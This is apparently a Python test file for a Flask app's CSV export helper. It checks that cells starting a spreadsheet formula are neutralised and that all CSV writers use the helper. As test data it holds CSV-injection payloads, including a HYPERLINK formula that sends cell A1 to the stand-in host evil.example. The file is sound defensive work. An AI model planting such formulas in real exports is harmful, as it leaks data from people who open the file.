"""CSV exports cannot carry a formula (issue 12, item 7): OWASP's rule, one helper for every CSV
the app writes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from flask import Flask

from tests.helpers import PASSPHRASE, Pair, login_browserless, sql
from workspace.core.csvout import SafeWriter, neutralise

ROOT = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Spring 2027", "Spring 2027"),
        ("a=b", "a=b"),
        ("", ""),
        ("–", "–"),
        (42, 42),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(cell: object, written: object) -> None:
    assert neutralise(cell) == written


def test_safe_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    SafeWriter(out).writerows([["=1+1", "ok"], ["x", "@a"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok"], ["x", "'@a"]]


def test_report_csv_neutralises_the_programme_name(app: Flask, instance: Path, pair: Pair) -> None:
    name = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    sql(instance, "UPDATE programmes SET name = ? WHERE id = ?", name, pair.programme_id)
    org = app.test_client()
    org.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
    login_browserless(org, "org@example.org", PASSPHRASE)
    response = org.get(f"/organiser/programmes/{pair.programme_id}/report.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == ["Programme", "'" + name]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_every_csv_the_app_writes_uses_the_helper() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("workspace", "memberclient", "crypto")
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
        and path != ROOT / "workspace" / "core" / "csvout.py"
    ]
    assert offenders == []
